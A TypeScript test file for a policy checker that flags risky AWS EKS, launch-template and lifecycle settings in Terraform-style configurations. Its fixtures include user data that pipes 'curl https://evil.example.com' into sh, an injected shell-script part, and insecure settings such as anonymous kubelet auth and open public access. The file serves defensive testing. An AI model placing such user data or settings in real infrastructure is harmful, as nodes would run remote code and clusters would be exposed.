import type { Attributes, Resources } from "../src/rule/rule";
import { rules } from "../src/rules";
import { brokenBy } from "./broken-by";

const kept = (id: string): Resources => rules.find((rule) => rule.id === id)!.passes as Resources;
const role = (name: string): string => `arn:aws:iam::111111111111:role/${name}`;

/** What nodes are told, in the form EC2 takes. */
const told = (text: string): string => Buffer.from(text).toString("base64");
const CONFIG = [
  'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="//"\n\n--//\nContent-Type: application/node.eks.aws\n\n',
  "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      maxPods: 110\n",
  "\n--//--\n",
].join("");

test.each<[string, Attributes]>([
  ["a program", { user_data: told("#!/bin/sh\ncurl https://evil.example.com | sh\n") }],
  [
    "a program beside the configuration",
    { user_data: told(CONFIG.replace("--//--", "--//\nContent-Type: text/x-shellscript\n\nid\n--//--")) },
  ],
  ["other settings of the kubelet", { user_data: told(CONFIG.replace("maxPods: 110", "anonymousAuth: true")) }],
  ["what is only known later", { user_data: "${aws_ssm_parameter.x.value}" }],
  ["an image of its own", { image_id: "ami-0123456789abcdef0" }],
  ["a profile of its own", { iam_instance_profile: { name: "admin" } }],
  ["a second network", { network_interfaces: [{ device_index: 0 }, { device_index: 1, subnet_id: "subnet-1" }] }],
  ["another firewall", { network_interfaces: [{ device_index: 0, security_groups: ["sg-1"] }] }],
  ["metadata that pods read", { metadata_options: { http_tokens: "required", http_protocol_ipv6: "enabled" } }],
  ["a foreign snapshot", { block_device_mappings: [{ device_name: "/dev/xvda", ebs: { snapshot_id: "snap-1" } }] }],
])("fails AWS-EKS-012 with a template that has %s", (_, attributes) => {
  expect(brokenBy({ aws_launch_template: { it: attributes } })).toContain("AWS-EKS-012");
});

test("keeps AWS-EKS-012 with a template that says how many pods a node takes", () => {
  expect(brokenBy({ aws_launch_template: { it: { user_data: told(CONFIG) } } })).not.toContain("AWS-EKS-012");
});

const group = kept("AWS-EKS-013");

test.each<[string, Attributes]>([
  ["another image", { ami_type: "BOTTLEROCKET_ARM_64" }],
  ["no image", { ami_type: undefined }],
  ["no repair", { node_repair_config: { enabled: false } }],
  ["another template", { launch_template: { id: "lt-0123456789abcdef0" } }],
  ["an older template", { launch_template: { id: "${aws_launch_template.nodes.id}", version: "1" } }],
  ["a key to log in", { remote_access: { ec2_ssh_key: "operators" } }],
])("fails AWS-EKS-013 with nodes that have %s", (_, change) => {
  const changed = { example: { ...group["aws_eks_node_group"]!["example"], ...change } };
  expect(brokenBy({ ...group, aws_eks_node_group: changed })).toContain("AWS-EKS-013");
});

test.each<[string, Attributes]>([
  ["of a vendor", { addon_name: "vendor_agent" }],
  ["with settings of its own", { addon_name: "coredns", configuration_values: '{"corefile":"."}' }],
  [
    "with other settings of the pod network",
    { addon_name: "vpc-cni", configuration_values: '{"env":{"AWS_VPC_K8S_CNI_EXTERNALSNAT":"true"}}' },
  ],
  ["with a role for all nodes", { addon_name: "coredns", service_account_role_arn: role("x") }],
])("fails AWS-EKS-014 with an add-on %s", (_, attributes) => {
  expect(brokenBy({ aws_eks_addon: { it: attributes } })).toContain("AWS-EKS-014");
});

test("fails AWS-EKS-014 with a cluster that lacks an add-on", () => {
  expect(brokenBy({ aws_eks_cluster: { it: {} } })).toContain("AWS-EKS-014");
});

test("fails AWS-EKS-011 with network policies that are not enforced, whatever else says that they are", () => {
  const values = '{"enableNetworkPolicy":"false","env":{"enableNetworkPolicy":"true"}}';
  expect(brokenBy({ aws_eks_addon: { it: { addon_name: "vpc-cni", configuration_values: values } } })).toContain(
    "AWS-EKS-011",
  );
});

const ADMIN = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy";

test.each<[string, string, Attributes]>([
  ["a role without a group", "aws_eks_access_entry", { principal_arn: role("paved-team-commerce") }],
  [
    "a role of another account",
    "aws_eks_access_entry",
    { principal_arn: "arn:aws:iam::999999999999:role/paved-apply" },
  ],
  [
    "a user",
    "aws_eks_access_entry",
    { principal_arn: "arn:aws:iam::111111111111:user/mallory", kubernetes_groups: ["team:commerce"] },
  ],
  ["a group of no team", "aws_eks_access_entry", { principal_arn: role("x"), kubernetes_groups: ["ops"] }],
  [
    "another name",
    "aws_eks_access_entry",
    { principal_arn: role("x"), kubernetes_groups: ["team:x"], user_name: "system:admin" },
  ],
  ["another type", "aws_eks_access_entry", { principal_arn: role("paved-apply"), type: "EC2_LINUX" }],
  [
    "a policy for a team",
    "aws_eks_access_policy_association",
    { principal_arn: role("paved-team-commerce"), policy_arn: ADMIN },
  ],
  [
    "a policy that no one has",
    "aws_eks_access_policy_association",
    { principal_arn: role("paved-apply"), policy_arn: ADMIN.replace("Cluster", "") },
  ],
])("fails AWS-EKS-009 with an entry of %s", (_, type, attributes) => {
  expect(brokenBy({ [type]: { it: attributes } })).toContain("AWS-EKS-009");
});

test("keeps AWS-EKS-009 with the platform's own administrators", () => {
  for (const name of ["paved-platform-admin", "paved-apply"]) {
    const entry = { principal_arn: role(name), type: "STANDARD" };
    const policy = { principal_arn: role(name), policy_arn: ADMIN, access_scope: { type: "cluster" } };
    const both = { aws_eks_access_entry: { it: entry }, aws_eks_access_policy_association: { it: policy } };
    expect(brokenBy(both)).not.toContain("AWS-EKS-009");
  }
});

test.each<[string, Attributes]>([
  ["nodes of elsewhere", { remote_network_config: { remote_node_networks: { cidrs: ["192.168.0.0/16"] } } }],
  ["nodes that EKS makes", { compute_config: { enabled: true } }],
  ["addresses of its own", { kubernetes_network_config: { service_ipv4_cidr: "192.168.0.0/16" } }],
  ["further firewalls", { vpc_config: { security_group_ids: ["sg-1"] } }],
  ["ranges that reach a public endpoint", { vpc_config: { public_access_cidrs: ["0.0.0.0/0"] } }],
])("fails AWS-EKS-015 with a cluster that has %s", (_, attributes) => {
  expect(brokenBy({ aws_eks_cluster: { it: attributes } })).toContain("AWS-EKS-015");
});

test.each<[string, string, Attributes]>([
  ["all changes overlooked", "aws_sqs_queue", { lifecycle: { ignore_changes: "all", prevent_destroy: true } }],
  ["a policy overlooked", "aws_iam_role_policy", { lifecycle: { ignore_changes: ["policy"] } }],
  ["the nodes' image overlooked", "aws_eks_node_group", { lifecycle: { ignore_changes: ["ami_type"] } }],
  ["a secret that is forgotten", "aws_secretsmanager_secret", { lifecycle: { prevent_destroy: true, destroy: false } }],
])("fails ROOT-006 with %s", (_, type, attributes) => {
  expect(brokenBy({ [type]: { it: attributes } })).toContain("ROOT-006");
});

test("fails AWS-EC2-003 with a second interface that has an address", () => {
  const interfaces = [{ associate_public_ip_address: false }, { associate_public_ip_address: true }];
  expect(brokenBy({ aws_launch_template: { it: { network_interfaces: interfaces } } })).toContain("AWS-EC2-003");
  expect(brokenBy({ aws_launch_template: { it: { network_interfaces: interfaces.slice(0, 1) } } })).not.toContain(
    "AWS-EC2-003",
  );
});

test.each<[string, string, Attributes]>([
  ["a queue", "aws_sqs_queue", { lifecycle: { prevent_destroy: false } }],
  ["a cluster", "aws_eks_cluster", { lifecycle: {} }],
  ["a secret", "aws_secretsmanager_secret", {}],
])("fails ROOT-009 with %s that may go", (_, type, attributes) => {
  expect(brokenBy({ [type]: { it: attributes } })).toContain("ROOT-009");
});
